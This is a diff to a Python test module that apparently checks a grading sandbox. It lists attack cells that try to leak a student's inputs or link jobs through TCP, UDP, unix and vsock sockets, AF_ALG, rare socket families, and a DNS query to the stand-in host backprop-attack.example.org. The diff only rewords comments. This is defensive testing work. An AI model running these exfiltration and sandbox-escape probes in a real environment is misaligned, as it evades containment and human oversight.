@@ -1,7 +1,8 @@
-"""Attacks over the network: to send a student's inputs out, and to let two jobs talk.
+"""Attacks over the network that try to send inputs out or to let two jobs communicate.
 
-Listeners: TCP port 48123, UDP port 48124, the abstract unix socket "backprop-attack" and the one at
-/tmp/backprop-attack.sock. What reaches them has left the sandbox. Nothing is aimed past this machine.
+The tests listen on TCP port 48123, on UDP port 48124, on the abstract unix socket
+"backprop-attack" and on /tmp/backprop-attack.sock. Data that arrive there have left the sandbox.
+No attack tries to reach another machine.
 """
 
 from textwrap import dedent
@@ -44,13 +45,13 @@ OWN_NETWORK = dedent("""\
 
 
 def in_a_cell(name: str, code: str, helpers: str = TRY) -> Attack:
-    """A cell that tries, beside a right answer that is worth 2 points."""
+    """Return an attack by a cell in a notebook with one right answer, which is worth 2 points."""
     answers = {"relu_forward": RELU}
     return Attack(name, cells=(helpers + dedent(code),), answers=answers, deserves=2)
 
 
 def in_an_answer(name: str, code: str) -> Attack:
-    """An answer that tries with the inputs at hand, and is not right."""
+    """Return an attack by a wrong answer, which can use the inputs of its question."""
     lines = [f"    {line}\n" for line in dedent(code).splitlines()]
     body = "def linear_forward(x, W, b):\n" + "".join(lines) + "    return x * 0, None"
     return Attack(name, cells=(TRY,), answers={"linear_forward": body})
@@ -91,7 +92,7 @@ ATTACKS = [
         """\
         attempt(socket.gethostbyname, "backprop-attack.example.org")
         attempt(socket.getaddrinfo, "localhost", 48123)
-        # The question itself carries the secret to whoever answers.
+        # The question contains the secret as a name, so a name server would receive it.
         question = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6)
         question += b"\\x0fbackprop-attack\\x00\\x00\\x01\\x00\\x01"
         for address in [*ADDRESSES, "127.0.0.53"]:
@@ -134,7 +135,7 @@ ATTACKS = [
     ),
     in_a_cell(
         "two_jobs_do_not_meet_at_an_abstract_socket",
-        # The next job of the same student would find this one, were the network shared.
+        # If jobs shared the network, the next job would reach the process that this one leaves.
         """\
         with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as channel:
             attempt(channel.connect, "\\0backprop-meeting")
@@ -231,12 +232,12 @@ ATTACKS = [
     ),
     in_a_cell(
         "no_socket_between_virtual_machines_is_in_reach",
-        # Only to number 1, this machine: a namespace does not keep these sockets from the others.
+        # The address 1 is this machine. Network namespaces do not separate these sockets.
         "attempt(tell, socket.AF_VSOCK, (1, 48123))",
     ),
     in_a_cell(
         "the_kernel_does_no_cryptography_for_a_job",
-        # AF_ALG is a large and seldom used surface of the kernel; a job has no use for it.
+        # AF_ALG gives access to a large and rarely used part of the kernel. No job needs it.
         """\
         def digest():
             with socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET, 0) as channel:
@@ -249,10 +250,12 @@ ATTACKS = [
     ),
     in_a_cell(
         "seldom_used_families_lead_nowhere",
-        # Bluetooth, CAN, TIPC, RDS, KCM, XDP; and SCTP and MPTCP over IP.
+        # These families are, for example, Bluetooth, CAN, TIPC, RDS, KCM and XDP. The two protocols
+        # over IP are SCTP and MPTCP.
         """\
         for family in (3, 4, 5, 9, 21, 29, 30, 31, 40, 41, 43, 44):
-            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
+            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW,
+                         socket.SOCK_SEQPACKET):
                 try:
                     socket.socket(family, kind)
                 except OSError:
@@ -267,7 +270,7 @@ ATTACKS = [
     ),
     in_a_cell(
         "an_inherited_socket_leads_nowhere_else",
-        # connect() on what is open already; AF_UNSPEC would dissolve a pair.
+        # connect() on sockets that are open already. AF_UNSPEC would separate a pair of sockets.
         """\
         libc = ctypes.CDLL(None)
         unspecified = struct.pack("H14x", 0)
